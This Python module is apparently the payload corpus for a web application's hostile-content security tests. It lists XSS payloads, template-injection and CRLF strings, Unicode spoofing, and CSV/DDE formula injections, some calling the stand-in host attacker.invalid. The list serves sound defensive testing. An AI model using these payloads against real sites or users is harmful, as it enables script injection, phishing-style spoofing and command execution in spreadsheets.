"""The hostile payload corpus: what a platform may hand us in any field it fills.

Each payload is data: an id, the technique it tries, the fields it fits, and a template with
`{m}`, replaced by a marker unique to the payload ("zq017zq"). The markup payloads put the
marker where it lands in a tag or attribute *name* if the markup ever becomes live (`<img
data-{m} ...>`), so a page is safe when no marker is found in a tag name, an attribute name, a
script or style element, an event-handler or style attribute, an hx-* attribute, or an href/src
that is not http(s) (see tests/security/test_hostile_content.py, `html_findings`). Payloads
that cannot carry markup (RTL, zero-width, floods, long words) carry the marker as text, and
the browser test measures the layout they could break.

Fields: "text" (message body), "name" (display name, sender, chat title: at most 300 characters
are stored), "handle", "url" (avatar, profile, permalink, attachment and post links) and
"attachment" (attachment file names).
"""

from __future__ import annotations

from dataclasses import dataclass

TEXT = "text"
NAME = "name"
HANDLE = "handle"
URL = "url"
ATTACHMENT = "attachment"

# Where payloads go (the attacker's host): a browser must never ask it for anything.
ATTACKER_HOST = "attacker.invalid"
MEGABYTE = 1_000_000


@dataclass(frozen=True)
class Payload:
    key: str
    technique: str
    fields: frozenset[str]
    template: str

    def marker(self, number: int) -> str:
        return f"zq{number:03d}zq"

    def render(self, number: int) -> str:
        # str.replace, not format(): the templates are full of literal braces.
        return self.template.replace("{m}", self.marker(number))


def _p(key: str, technique: str, fields: str, template: str) -> Payload:
    return Payload(key, technique, frozenset(fields.split()), template)


MARKUP = "text name handle attachment"
SHORT = "text name attachment"
URLS = "url"

_SCRIPT = [
    _p("script-plain", "script", MARKUP, "<script data-{m}>window.__xss='{m}'</script>"),
    _p(
        "script-src", "script", MARKUP, f'<script data-{{m}} src="//{ATTACKER_HOST}/x.js"></script>'
    ),
    _p("script-upper", "script", MARKUP, "<SCRIPT data-{m}>window.__xss='{m}'</SCRIPT>"),
    _p("script-split", "script", MARKUP, "<scr<script>ipt data-{m}>window.__xss=1</script>"),
    _p(
        "script-nested-close", "script", MARKUP, "</script><script data-{m}>window.__xss=1</script>"
    ),
    _p("script-self-closing", "script", MARKUP, "<script data-{m} src=data:,window.__xss=1 />"),
    _p("script-type-module", "script", MARKUP, '<script type="module" data-{m}>alert(1)</script>'),
    _p(
        "script-noscript",
        "script",
        MARKUP,
        '<noscript><p title="</noscript><img data-{m} src=x onerror=alert(1)>">',
    ),
    _p(
        "script-template",
        "script",
        MARKUP,
        "<template><script data-{m}>alert(1)</script></template>",
    ),
    _p(
        "script-iframe-srcdoc",
        "script",
        MARKUP,
        '<iframe data-{m} srcdoc="<script>parent.__xss=1</script>"></iframe>',
    ),
    _p("script-object", "script", MARKUP, '<object data-{m} data="javascript:alert(1)"></object>'),
    _p("script-embed", "script", MARKUP, '<embed data-{m} src="javascript:alert(1)">'),
    _p("script-base", "script", MARKUP, f'<base data-{{m}} href="//{ATTACKER_HOST}/">'),
    _p(
        "script-meta-refresh",
        "script",
        MARKUP,
        f'<meta data-{{m}} http-equiv="refresh" content="0;url=//{ATTACKER_HOST}/">',
    ),
    _p(
        "script-link-import",
        "script",
        MARKUP,
        f'<link data-{{m}} rel="stylesheet" href="//{ATTACKER_HOST}/x.css">',
    ),
    _p(
        "script-form-action",
        "script",
        MARKUP,
        f'<form data-{{m}} action="//{ATTACKER_HOST}/"><button>ok</button></form>',
    ),
]

_EVENTS = [
    _p(
        "event-img-onerror",
        "event-handler",
        MARKUP,
        "<img data-{m} src=x onerror=\"window.__xss='{m}'\">",
    ),
    _p("event-svg-onload", "event-handler", MARKUP, '<svg data-{m} onload="window.__xss=1"></svg>'),
    _p("event-body-onload", "event-handler", MARKUP, "<body data-{m} onload=alert(1)>"),
    _p(
        "event-details-ontoggle",
        "event-handler",
        MARKUP,
        "<details data-{m} open ontoggle=alert(1)>",
    ),
    _p(
        "event-input-autofocus",
        "event-handler",
        MARKUP,
        "<input data-{m} autofocus onfocus=alert(1)>",
    ),
    _p(
        "event-video-source",
        "event-handler",
        MARKUP,
        "<video data-{m}><source onerror=alert(1)></video>",
    ),
    _p("event-marquee", "event-handler", MARKUP, "<marquee data-{m} onstart=alert(1)>x</marquee>"),
    _p(
        "event-a-onmouseover", "event-handler", MARKUP, "<a data-{m} onmouseover=alert(1)>hover</a>"
    ),
    _p("event-slash-separator", "event-handler", MARKUP, "<img/data-{m}/src=x/onerror=alert(1)>"),
    _p("event-backtick", "event-handler", MARKUP, "<img data-{m} src=x onerror=alert`1`>"),
    _p("event-newline-attr", "event-handler", MARKUP, "<img data-{m}\nsrc=x\nonerror=alert(1)>"),
    _p("event-unclosed", "event-handler", MARKUP, "<img data-{m} src=x onerror=alert(1) "),
    _p(
        "event-animation",
        "event-handler",
        MARKUP,
        '<div data-{m} style="animation:x" onanimationstart=alert(1)></div>',
    ),
    _p(
        "event-popover",
        "event-handler",
        MARKUP,
        "<button data-{m} popovertarget=x onbeforetoggle=alert(1)>x</button>",
    ),
]

_URLS = [
    _p("url-javascript", "url-scheme", URLS, "javascript:window.__xss='{m}'"),
    _p("url-javascript-upper", "url-scheme", URLS, "JaVaScRiPt:alert('{m}')"),
    _p("url-javascript-space", "url-scheme", URLS, "  javascript:alert('{m}')"),
    _p("url-javascript-tab", "url-scheme", URLS, "java\tscript:alert('{m}')"),
    _p("url-javascript-newline", "url-scheme", URLS, "java\nscript:alert('{m}')"),
    _p("url-javascript-entity", "url-scheme", URLS, "&#106;avascript:alert('{m}')"),
    _p("url-javascript-hex-entity", "url-scheme", URLS, "&#x6A;avascript:alert('{m}')"),
    _p("url-javascript-nul", "url-scheme", URLS, "java\x00script:alert('{m}')"),
    _p("url-javascript-percent", "url-scheme", URLS, "javascript%3Aalert('{m}')"),
    _p("url-data-html", "url-scheme", URLS, "data:text/html,<script>alert('{m}')</script>"),
    _p(
        "url-data-base64",
        "url-scheme",
        URLS,
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    ),
    _p("url-data-svg", "url-scheme", URLS, "data:image/svg+xml,<svg onload=alert('{m}')>"),
    _p("url-vbscript", "url-scheme", URLS, "vbscript:msgbox('{m}')"),
    _p("url-file", "url-scheme", URLS, "file:///etc/passwd#{m}"),
    _p("url-protocol-relative", "url-scheme", URLS, f"//{ATTACKER_HOST}/{{m}}"),
    _p(
        "url-http-quote-breakout",
        "url-breakout",
        URLS,
        f"https://{ATTACKER_HOST}/\"onmouseover=\"alert('{{m}}')",
    ),
    _p(
        "url-http-angle-breakout",
        "url-breakout",
        URLS,
        f'https://{ATTACKER_HOST}/"><img data-{{m}} src=x onerror=alert(1)>',
    ),
    _p("url-homoglyph", "homoglyph", URLS, "https://\u0440\u0430y\u0440\u0430l.com/login?{m}"),
    _p("url-userinfo", "homoglyph", URLS, f"https://paypal.com@{ATTACKER_HOST}/{{m}}"),
    _p("url-rtl-host", "bidi", URLS, f"https://{ATTACKER_HOST}/\u202egnp.exe?{{m}}"),
    _p("url-very-long", "long", URLS, f"https://{ATTACKER_HOST}/{{m}}/" + "a" * 5000),
]

_SVG_MATH_CSS = [
    _p("svg-script", "svg-mathml", MARKUP, "<svg data-{m}><script>alert(1)</script></svg>"),
    _p(
        "svg-animate-href",
        "svg-mathml",
        MARKUP,
        "<svg data-{m}><a><animate attributeName=href values"
        "=javascript:alert(1) /><text y=20>x</text></a></svg>",
    ),
    _p(
        "svg-use-external",
        "svg-mathml",
        MARKUP,
        f'<svg data-{{m}}><use href="//{ATTACKER_HOST}/x.svg#a"/></svg>',
    ),
    _p(
        "svg-foreignobject",
        "svg-mathml",
        MARKUP,
        "<svg data-{m}><foreignObject><iframe src=javas"
        "cript:alert(1)></iframe></foreignObject></svg>",
    ),
    _p(
        "mathml-href",
        "svg-mathml",
        MARKUP,
        "<math data-{m}><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
    ),
    _p(
        "mathml-mglyph",
        "svg-mathml",
        MARKUP,
        "<math data-{m}><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    _p("css-expression", "css", MARKUP, '<div data-{m} style="width:expression(alert(1))">x</div>'),
    _p(
        "css-url-javascript",
        "css",
        MARKUP,
        '<div data-{m} style="background:url(javascript:alert(1))">x</div>',
    ),
    _p(
        "css-import", "css", MARKUP, f"<style data-{{m}}>@import '//{ATTACKER_HOST}/x.css';</style>"
    ),
    _p(
        "css-overlay",
        "css",
        MARKUP,
        '<div data-{m} style="position:fixed;inset:0;z-index:99999;background:red">pay here</div>',
    ),
    _p(
        "css-moz-binding",
        "css",
        MARKUP,
        '<div data-{m} style="-moz-binding:url(//attacker.invalid/x.xml#x)">x</div>',
    ),
]

_TEMPLATES = [
    _p("tpl-django-var", "template-injection", SHORT, "{{ {m} }}{{ request.user.password }}"),
    _p("tpl-django-tag", "template-injection", SHORT, "{% debug %}{m}{% now 'Y' %}"),
    _p(
        "tpl-django-comment", "template-injection", SHORT, "{# {m} #}{% comment %}x{% endcomment %}"
    ),
    _p("tpl-js-literal", "template-injection", SHORT, "${alert('{m}')}${7*7}"),
    _p(
        "tpl-angular",
        "template-injection",
        SHORT,
        "{{constructor.constructor('alert(\"{m}\")')()}}",
    ),
    _p("tpl-jinja-class", "template-injection", SHORT, "{{ ''.__class__.__mro__ }}{m}"),
    _p("tpl-python-format", "template-injection", SHORT, "%(password)s %s %d {0} {m}"),
]

_HTMX = [
    _p(
        "htmx-get-load",
        "htmx",
        MARKUP,
        f'<div data-{{m}} hx-get="//{ATTACKER_HOST}/" hx-trigger="load">x</div>',
    ),
    _p(
        "htmx-post-action",
        "htmx",
        MARKUP,
        '<div data-{m} hx-post="/inbox/bulk/" hx-trigger='
        '"load" hx-vals=\'{"status":"resolved"}\'>x</div>',
    ),
    _p("htmx-on", "htmx", MARKUP, '<div data-{m} hx-on:htmx:load="window.__xss=1">x</div>'),
    _p("htmx-on-click", "htmx", MARKUP, '<button data-{m} hx-on::click="alert(1)">x</button>'),
    _p(
        "htmx-data-prefix",
        "htmx",
        MARKUP,
        f'<div data-{{m}} data-hx-get="//{ATTACKER_HOST}/" data-hx-trigger="load">x</div>',
    ),
    _p(
        "htmx-swap-oob",
        "htmx",
        MARKUP,
        '<div data-{m} id="conversation-list" hx-swap-oob="true">gone</div>',
    ),
    _p("htmx-headers", "htmx", MARKUP, '<body data-{m} hx-headers=\'{"X-CSRFToken":"x"}\'>'),
    _p("htmx-attr-breakout", "htmx", MARKUP, '" hx-get="/inbox/" hx-trigger="load" data-{m}="'),
]

_BREAKOUTS = [
    _p(
        "attr-double-quote",
        "attribute-breakout",
        MARKUP,
        '" onmouseover="window.__xss=1" data-{m}="',
    ),
    _p(
        "attr-single-quote",
        "attribute-breakout",
        MARKUP,
        "' onmouseover='window.__xss=1' data-{m}='",
    ),
    _p("attr-unquoted", "attribute-breakout", MARKUP, "x onmouseover=alert(1) data-{m}=x"),
    _p("attr-backtick", "attribute-breakout", MARKUP, "` onmouseover=alert(1) data-{m}=`"),
    _p("attr-angle", "attribute-breakout", MARKUP, '"><img data-{m} src=x onerror=alert(1)>'),
    _p(
        "close-textarea",
        "element-breakout",
        MARKUP,
        "</textarea><img data-{m} src=x onerror=alert(1)>",
    ),
    _p(
        "close-script", "element-breakout", MARKUP, "</script><img data-{m} src=x onerror=alert(1)>"
    ),
    _p("close-title", "element-breakout", MARKUP, "</title><img data-{m} src=x onerror=alert(1)>"),
    _p("close-style", "element-breakout", MARKUP, "</style><img data-{m} src=x onerror=alert(1)>"),
    _p(
        "close-template",
        "element-breakout",
        MARKUP,
        "</template><img data-{m} src=x onerror=alert(1)>",
    ),
    _p("close-comment", "comment-breakout", MARKUP, "--><img data-{m} src=x onerror=alert(1)><!--"),
    _p("open-comment", "comment-breakout", MARKUP, "<!-- {m} the rest of the page is gone"),
    _p("cdata", "comment-breakout", MARKUP, "<![CDATA[><img data-{m} src=x onerror=alert(1)>]]>"),
    _p(
        "json-breakout",
        "element-breakout",
        MARKUP,
        '"}</script><img data-{m} src=x onerror=alert(1)>{"',
    ),
    _p("double-encoded", "encoding", MARKUP, "&lt;img data-{m} src=x onerror=alert(1)&gt;"),
    _p(
        "double-encoded-pct",
        "encoding",
        MARKUP,
        "%3Cimg%20data-{m}%20src%3Dx%20onerror%3Dalert(1)%3E",
    ),
    _p("utf7", "encoding", MARKUP, "+ADw-script data-{m}+AD4-alert(1)+ADw-/script+AD4-"),
    _p("fullwidth-angle", "encoding", MARKUP, "\uff1cimg data-{m} src=x onerror=alert(1)\uff1e"),
]

_MARKDOWN = [
    _p("md-link-js", "markdown", SHORT, "[click me](javascript:alert('{m}'))"),
    _p("md-image-js", "markdown", SHORT, "![pic](javascript:alert('{m}'))"),
    _p("md-ref-link", "markdown", SHORT, "[x][1]\n\n[1]: javascript:alert('{m}')"),
    _p("md-autolink", "markdown", SHORT, "<javascript:alert('{m}')>"),
    _p("md-html-inline", "markdown", SHORT, "**bold** <b data-{m} onclick=alert(1)>x</b> _it_"),
    _p(
        "md-image-onerror",
        "markdown",
        SHORT,
        '![x" onerror="alert(1)" data-{m}="](https://example.com/x.png)',
    ),
    _p(
        "md-data-link",
        "markdown",
        SHORT,
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) {m}",
    ),
    _p("bbcode-url", "markdown", SHORT, "[url=javascript:alert('{m}')]x[/url]"),
]

_UNICODE = [
    _p("rtl-override", "bidi", SHORT, "\u202e{m} evil reversed text"),
    _p("rtl-override-unclosed", "bidi", SHORT, "Anna \u202e{m}\u202d"),
    _p("rtl-embedding", "bidi", SHORT, "\u202b{m} \u05e9\u05dc\u05d5\u05dd"),
    _p("bidi-isolates", "bidi", SHORT, "\u2067{m} \u0645\u0631\u062d\u0628\u0627\u2066 unclosed"),
    _p("bidi-arabic-name", "bidi", SHORT, "\u0645\u062d\u0645\u062f {m} \u0639\u0644\u064a"),
    _p("invoice-rtl-exe", "bidi", "attachment name", "invoice-{m}\u202egpj.exe"),
    _p("zero-width", "zero-width", SHORT, "j\u200ba\u200cv\u200da\ufeffscript:{m}"),
    _p("zero-width-joiners", "zero-width", SHORT, "{m}" + "\u200d" * 500),
    _p("nul-and-controls", "control", SHORT, "{m}\x00\x01\x07\x08\x1b[31m\x7f\u0085"),
    _p("crlf-header", "crlf", SHORT, "Jane\r\nBcc: victim@attacker.invalid\r\nX-{m}: 1"),
    _p("line-separators", "control", SHORT, "{m}\u2028\u2029after"),
    _p("soft-hyphen", "zero-width", SHORT, "{m}\u00ad" * 20),
    _p(
        "homoglyph-name",
        "homoglyph",
        SHORT,
        "\u0421\u043e\u043c\u043c\u0443n\u0456t\u0443 Team {m}",
    ),
    _p("emoji-flood", "flood", SHORT, "{m}" + "\U0001f600\U0001f525" * 140),
    _p("zalgo", "flood", SHORT, "{m}" + "Z\u0351\u0352\u0357\u035b\u0300\u0301\u0302\u0303" * 30),
    _p("combining-flood", "flood", SHORT, "a" + "\u0301" * 280 + "{m}"),
    _p(
        "family-emoji-chain",
        "flood",
        SHORT,
        "{m}" + "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    ),
    _p("long-word-name", "long", "name handle attachment", "{m}" + "W" * 290),
    _p("long-word-10k", "long", TEXT, "{m}" + "A" * 10_000),
    _p("long-url-word", "long", TEXT, f"https://{ATTACKER_HOST}/{{m}}/" + "b" * 10_000),
    _p(
        "megabyte",
        "long",
        TEXT,
        "{m} " + ("Lorem ipsum dolor sit amet " * (MEGABYTE // 27 + 1))[:MEGABYTE],
    ),
    _p("many-lines", "long", TEXT, "{m}" + "\n" * 5000 + "end"),
    _p("surrogate-like", "encoding", SHORT, "{m} \ufffd\ufffe\uffff \U0010ffff"),
]

# Names and texts end up in CSV exports: a cell a spreadsheet would run as a formula.
_FORMULAS = [
    _p(
        "csv-hyperlink",
        "csv-formula",
        SHORT,
        f'=HYPERLINK("https://{ATTACKER_HOST}/?{{m}}","open")',
    ),
    _p("csv-dde-plus", "csv-formula", SHORT, "+cmd|' /C calc'!A0 {m}"),
    _p("csv-dde-minus", "csv-formula", SHORT, "-2+3+cmd|' /C calc'!A0 {m}"),
    _p("csv-at", "csv-formula", SHORT, "@SUM(1+1)*cmd|' /C calc'!A0 {m}"),
]

CORPUS: tuple[Payload, ...] = tuple(
    _SCRIPT
    + _EVENTS
    + _URLS
    + _SVG_MATH_CSS
    + _TEMPLATES
    + _HTMX
    + _BREAKOUTS
    + _MARKDOWN
    + _FORMULAS
    + _UNICODE
)


@dataclass(frozen=True)
class Rendered:
    """A payload as it is sent: its marker and its text."""

    key: str
    technique: str
    marker: str
    value: str


def rendered(field: str) -> list[Rendered]:
    """Every payload that fits `field`, with its marker (numbered over the whole corpus, so a
    marker found on a page names one payload)."""
    return [
        Rendered(payload.key, payload.technique, payload.marker(number), payload.render(number))
        for number, payload in enumerate(CORPUS)
        if field in payload.fields
    ]


def by_key(key: str) -> Rendered:
    for number, payload in enumerate(CORPUS):
        if payload.key == key:
            return Rendered(key, payload.technique, payload.marker(number), payload.render(number))
    raise KeyError(key)


def all_markers() -> dict[str, str]:
    """marker → payload key, for every payload."""
    return {payload.marker(number): payload.key for number, payload in enumerate(CORPUS)}
